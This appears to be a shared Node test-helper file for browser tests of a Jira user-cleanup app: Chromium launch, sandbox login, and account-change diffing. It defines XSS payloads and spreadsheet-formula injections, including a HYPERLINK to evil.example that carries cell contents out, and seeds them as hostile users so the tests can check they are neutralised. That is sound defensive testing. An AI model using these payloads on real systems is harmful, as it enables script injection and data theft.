// Shared set-up for the browser tests: Debian's Chromium driven by playwright-core (never a
// downloaded browser; see docs/toolchain.md).
import { before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, mkdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { startAppSandbox } from '../../plugin-shim/dev/page-server.mjs';
import { createStore } from '../../plugin-shim/app/store.mjs';

export const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
export const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];

/** Why the browser tests cannot run here, or null. */
/**
 * Why the browser tests cannot run here, or null. With USER_CLEANUP_REQUIRE_BROWSER set (build.sh
 * sets it under CI) a missing browser or build is an error, never a silent skip.
 */
export function cannotRun() {
  let why = null;
  if (!existsSync(CHROMIUM)) why = `no Chromium at ${CHROMIUM} (apt-get install -y chromium)`;
  else if (!existsSync(new URL('../../pkg/web/user_cleanup_wasm_bg.wasm', import.meta.url))) why = 'pkg/web is not built (./build.sh)';
  if (why && process.env.USER_CLEANUP_REQUIRE_BROWSER) throw new Error(`browser tests required but ${why}`);
  return why;
}

/**
 * Launches Chromium. Every context it opens waits up to 60 s for elements and navigations (not
 * Playwright's 30 s): CI runs on 2 cores while the sandbox Jira serves the page from the same
 * machine, and a slow answer must not fail a test whose behaviour is right.
 */
export async function launch() {
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  const newContext = browser.newContext.bind(browser);
  browser.newContext = async (...a) => {
    const context = await newContext(...a);
    context.setDefaultTimeout(60_000);
    context.setDefaultNavigationTimeout(60_000);
    return context;
  };
  return browser;
}

/** Where the browser tests write their screenshots (a folder path ending in '/'). */
export const SHOTS = fileURLToPath(new URL('screenshots/', import.meta.url));

/**
 * A test file's browser and app sandbox: before its tests, Chromium launched and a sandbox started
 * with `sandboxOptions()` (then `ready(sb)` prepares it); after them, both closed. Returns
 * { browser, sb }, filled in before the first test (left empty where the browser tests cannot run).
 */
export function appSession(sandboxOptions = () => ({}), ready = async () => {}) {
  const session = {};
  before(async () => {
    if (cannotRun()) return;
    mkdirSync(SHOTS, { recursive: true });
    session.browser = await launch();
    session.sb = await startAppSandbox(sandboxOptions());
    await ready(session.sb);
  });
  after(async () => {
    await session.browser?.close();
    await session.sb?.close();
  });
  return session;
}

/** The app's store in the session's sandbox Jira, as the admin's token sees it. */
export const sessionStore = (session) => createStore({ baseUrl: session.sb.url, token: session.sb.token });

/** An `appSession` `ready`: the storage account made and `policyText` saved in Jira (as the Rules view saves it). */
export function withSavedPolicy(policyText) {
  return async (sb) => {
    const s = createStore({ baseUrl: sb.url, token: sb.token });
    assert.equal((await s.createAccount()).ok, true);
    await s.savePolicy(policyText, { savedBy: 'admin', expectRevision: (await s.loadPolicy()).revision ?? 0 });
  };
}

/** Logs in through Jira's REST session endpoint; the cookies land in the browser context. */
export async function login(context, baseUrl, username, password = username) {
  const r = await context.request.post(`${baseUrl}/rest/auth/1/session`, { data: { username, password } });
  if (r.status() !== 200) throw new Error(`login as ${username} failed: ${r.status()}`);
}

/** Waits until the app has finished (ready, refused or error) and returns the state. */
export async function settled(page, timeout = 120_000) {
  await page.waitForSelector('#user-cleanup[data-state="ready"], #user-cleanup[data-state="refused"], #user-cleanup[data-state="error"]', { timeout });
  return page.getAttribute('#user-cleanup', 'data-state');
}

/** Numbers as the page shows them ("1,539") back to numbers. */
export const parseNum = (s) => Number(String(s).replace(/[^\d.-]/g, ''));

/**
 * A logged-in admin's page in a new context. `errors` collects uncaught page errors and any
 * dialog (a hostile name that ran `alert` would show up here); dialogs are dismissed.
 */
export async function adminPage(browser, baseUrl, { viewport = { width: 1280, height: 900 }, acceptDownloads = false } = {}) {
  const context = await browser.newContext({ viewport, acceptDownloads });
  await login(context, baseUrl, 'admin');
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('dialog', (d) => {
    errors.push(`dialog: ${d.message()}`);
    d.dismiss();
  });
  return { context, page, errors };
}

// Hostile strings a Jira instance can hold: HTML in a display name or group, spreadsheet formulas
// in names and emails. The page must show them as text and neutralise them in exports.
export const XSS_NAME = '<img src=x onerror="window.__pwned=1">';
export const XSS_GROUP = '<script>window.__pwned=2</script>';
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/","Click me")';
export const FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")@evil-<b>bold</b>.example';

/** The built-in sample plus three hostile, long-idle users `mallory0..2` (`displayName(i)`, `groups`). */
export function hostileSample({ displayName = (i) => `${XSS_NAME} ${i}`, groups = ['jira-software-users', XSS_GROUP] } = {}) {
  const snap = JSON.parse(readFileSync(new URL('../../samples/snapshot.json', import.meta.url), 'utf8'));
  for (let i = 0; i < 3; i++) {
    snap.users.push({
      name: `mallory${i}`, displayName: displayName(i), email: FORMULA_EMAIL, active: true,
      groups, directory: 'Jira Internal Directory',
      created: '2020-01-01T00:00:00Z', lastLogin: '2025-01-01T00:00:00Z',
    });
  }
  return snap;
}

const lc = (s) => String(s).toLowerCase();

/** Every sandbox user as Jira holds it now: lower-case name → {active, groups (lower-case, sorted)}. */
export const accountStates = (sb) => new Map(sb.state.snapshotTruth().users.map((u) => [lc(u.name), { active: u.active, groups: u.groups.map(lc).sort() }]));

/** What changed between two accountStates: name → {deactivated, reactivated, removed, added}, changed users only. */
export function accountChanges(before, after) {
  const changed = new Map();
  for (const [k, b] of before) {
    const a = after.get(k);
    const removed = b.groups.filter((g) => !a.groups.includes(g));
    const added = a.groups.filter((g) => !b.groups.includes(g));
    if (a.active !== b.active || removed.length || added.length) changed.set(k, { deactivated: b.active && !a.active, reactivated: !b.active && a.active, removed, added });
  }
  return changed;
}
